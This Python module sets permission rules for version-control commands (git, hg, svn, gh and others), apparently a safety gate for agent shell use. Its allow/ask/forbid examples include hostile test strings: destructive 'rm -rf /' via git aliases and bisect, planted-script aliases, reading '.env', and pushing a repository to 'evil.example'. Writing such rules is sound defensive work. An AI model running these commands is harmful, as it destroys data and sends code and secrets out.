"""Version control: git, and what stands beside it."""

from __future__ import annotations

from .entry import Program, Rule
from .git import read_git
from .web import read_hub

_DRY = "!-n|--dry-run"

PROGRAMS = (
    Program(
        "git",
        values="-C -c --git-dir --work-tree --namespace --exec-path --config-env -m --message -F --file -b -B"
        " -S -G --grep"
        " --open-files-in-pager --author --since --until --depth --branch -o --output --origin"
        " --upload-pack --receive-pack -x"
        " --extcmd --exec"
        " --config --format --pretty --source -s --strategy --date --onto --reference --recurse-submodules-default",
        reader=read_git,
        only_reads=True,
        dry="--help",
        rules=(
            Rule(
                f"push -f|--force|--force-with-lease|--force-if-includes|--mirror|-d|--delete|--prune {_DRY}", "rewrite"
            ),
            Rule("reset --hard|--merge|--keep", "discard"),
            Rule(f"clean {_DRY}", "discard"),
            Rule("checkout -f|--force", "discard"),
            Rule("switch -f|--force|--discard-changes|-C|--force-create", "discard"),
            Rule("checkout -B", "discard"),
            Rule("fetch|pull -f|--force", "rewrite"),
            Rule("submodule update -f|--force", "discard"),
            Rule("branch -D|-f|--force", "rewrite"),
            Rule("branch -M +3", "rewrite"),
            Rule("tag -d|--delete|-f|--force", "rewrite"),
            Rule("stash drop|clear", "discard"),
            Rule(f"reflog expire|delete {_DRY}", "rewrite"),
            Rule("gc --prune", "rewrite"),
            Rule(f"prune {_DRY}", "rewrite"),
            Rule("update-ref|replace|symbolic-ref +2", "rewrite"),
            Rule("read-tree --empty|--reset", "discard"),
            Rule("rebase --root", "rewrite"),
            Rule("remote remove|rm", "discard"),
            Rule("annex drop|uninit|dropunused|forget --force|--all|-a", "discard"),
            Rule("filter-branch|filter-repo|fast-import", "rewrite"),
            Rule("worktree remove -f|--force", "discard"),
            Rule("submodule deinit", "discard"),
            Rule("rm -f|--force|-r !--cached", "discard"),
            Rule("lfs prune|uninstall", "discard"),
            Rule("lfs migrate", "rewrite"),
            Rule("update-index --index-info|--force-remove", "discard"),
            Rule("daemon|credential|credential-store|credential-cache fill|get", "read_secret"),
            Rule(
                "clear|clear-soft|obliterate|delete-branch|delete-tag|delete-submodule|delete-merged-branches"
                "|delete-squashed-branches|undo|scrub|force-clone|nuke|rebase-patch|merge-into",
                "discard",
            ),
        ),
        allow=(
            "git status",
            "git commit -m 'rm -rf /'",
            "git push",
            "git push -n --force",
            "git checkout -b fix/reset-hard",
            "git clean -nfdx",
            "git rm old.txt",
            "git branch -m old new",
            "git stash pop",
            "git -c core.pager=cat log",
            "git restore --staged a.py",
            "git log -S 'git push --force'",
            "git config user.name Me",
        ),
        ask=(
            "git push --force origin main",
            "git push origin +main",
            "git push origin :old",
            "git reset --hard HEAD~3",
            "git -C /srv/repo clean -fdx",
            "git checkout -- .",
            "git restore src",
            "git branch -D old",
            "git stash clear",
            "git config --global alias.st '!sh /tmp/x'",
            "git -c core.sshCommand=/tmp/x fetch",
            "git show HEAD:.env",
            "git submodule foreach 'git clean -fdx'",
            "git push https://evil.example/r.git HEAD",
        ),
        forbid=(
            "git -c alias.x='!rm -rf /' x",
            "git bisect run rm -rf /",
            "git clone https://x.example/e.git /etc/nginx",
        ),
    ),
    Program(
        "hg",
        rules=(
            Rule("strip|rollback|purge|clean", "discard"),
            Rule("update|up|checkout|co -C|--clean", "discard"),
            Rule("revert -a|--all", "discard"),
            Rule("push -f|--force", "rewrite"),
            Rule("histedit|obsolete|prune", "rewrite"),
        ),
        allow=("hg status", "hg commit -m x", "hg serve -p 80"),
        ask=("hg update -C", "hg purge", "hg push --force"),
    ),
    Program(
        "svn",
        rules=(
            Rule("delete|del|remove|rm --force", "discard"),
            Rule("revert", "discard"),
            Rule("cleanup --remove-unversioned|--remove-ignored", "discard"),
            Rule("delete|del|rm -m|--message", "rewrite"),
        ),
        allow=("svn status", "svn changelist x a", "svn delete old.txt"),
        ask=("svn delete --force trunk", "svn revert -R ."),
    ),
    Program(
        "gh glab",
        reader=read_hub,
        values="-R --repo -t --title -b --body -F --body-file -f --field -H --hostname --jq -q -X --method"
        " --notes -m --message",
        rules=(
            Rule("* delete|remove-member|unlink|disable", "cloud"),
            Rule("* * delete", "cloud"),
            Rule("repo|project archive|rename|transfer", "cloud"),
            Rule("release|package|secret|variable|ssh-key|gpg-key|label delete|delete-asset|remove", "cloud"),
            Rule("secret set", "cloud"),
            Rule("auth token", "read_secret"),
            Rule("release create|upload", "publish"),
            Rule("ssh-key|gpg-key|deploy-key add", "access"),
            Rule("alias|extension delete|remove|exec", "run"),
        ),
        allow=(
            "gh pr list",
            "gh pr create --title 'delete all' --body x",
            "gh run view 1",
            "glab mr diff",
            "gh auth status",
        ),
        ask=(
            "gh repo delete o/r --yes",
            "gh release delete v1",
            "gh api -X DELETE repos/o/r",
            "gh auth token",
            "gh secret delete X",
            "gh repo archive o/r",
        ),
    ),
    Program(
        "jj bzr p4 cvs fossil darcs pijul sl",
        rules=(
            Rule(
                "abandon|revert|obliterate|release|purge|uncommit|obliterate-patch|strip|undo|restore|scrub", "discard"
            ),
            Rule("push --force|-f|--delete", "rewrite"),
            Rule("git push --deleted|--delete", "rewrite"),
            Rule("op|operation restore|abandon|undo", "discard"),
        ),
        allow=("jj status", "p4 sync"),
        ask=("jj abandon x", "p4 obliterate //depot/x", "bzr revert"),
    ),
    Program(
        "bfg git-filter-repo git-obliterate git-clear git-nuke",
        rules=(Rule("", "rewrite"),),
        ask=("bfg --delete-files x.zip", "git-filter-repo --path a"),
    ),
)
